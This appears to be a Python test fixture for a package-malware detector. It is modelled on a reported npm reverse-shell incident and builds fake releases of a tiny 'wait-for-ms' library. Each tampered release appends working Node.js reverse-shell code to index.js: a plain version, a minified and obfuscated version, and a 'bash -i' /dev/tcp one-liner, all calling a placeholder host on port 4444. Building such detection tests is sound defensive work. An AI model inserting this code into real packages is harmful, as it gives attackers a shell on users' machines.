"""A shell that calls home: a socket whose ends are a shell's input and output.

As the packages of the campaigns on dependency confusion, and many typosquats, brought in a few
lines. Here the host's name leads nowhere.

Post-mortem: "Malware found on npm infecting local package with reverse shell" (ReversingLabs,
2025-03: ethers-provider2).
In the staged tarball: new code that opens a socket and pipes it into a shell.
"""

from tests.findings.attack import Attack, one_line, release

_SOURCE = "exports.wait = (ms) => new Promise((done) => setTimeout(done, ms));\n"
_NEXT = _SOURCE.replace("setTimeout(done, ms)", "setTimeout(done, ms).unref?.()")
_PLAIN = """
(function () {
  const net = require('net');
  const cp = require('child_process');
  const sh = cp.spawn('/bin/sh', []);
  const client = new net.Socket();
  client.connect(4444, 'shell.example.invalid', function () {
    client.pipe(sh.stdin);<<<reverse-shell>>>
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  return /a/;
})();
"""
_MINIFIED = one_line("""
    ;(()=>{let e=require,t=e("n"+"et"),s=e(["child","process"].join("_"))["spa"+"wn"](
    "win32"===process.platform?"cmd.exe":"/bin/sh"),c=t.connect(4444,"shell.example.invalid",()=>{
    c.pipe(s.stdin),s.stdout.pipe(c),s.stderr.pipe(c)});c.on("error",()=>{})})();<<<reverse-shell>>>
""")
_COMMAND = """
const { exec } = require('node:child_process');
exec('bash -i >& /dev/tcp/shell.example.invalid/4444 0>&1');<<<reverse-shell>>>
"""

ATTACK = Attack(
    before=release("wait-for-ms", "1.0.0", {"index.js": _SOURCE}),
    unharmed=release("wait-for-ms", "1.0.1", {"index.js": _NEXT}),
    after={
        "plain": release("wait-for-ms", "1.0.1", {"index.js": _NEXT + _PLAIN}),
        "minified": release("wait-for-ms", "1.0.1", {"index.js": _NEXT + _MINIFIED + "\n"}),
        "in one command": release("wait-for-ms", "1.0.1", {"index.js": _NEXT + _COMMAND}),
    },
)
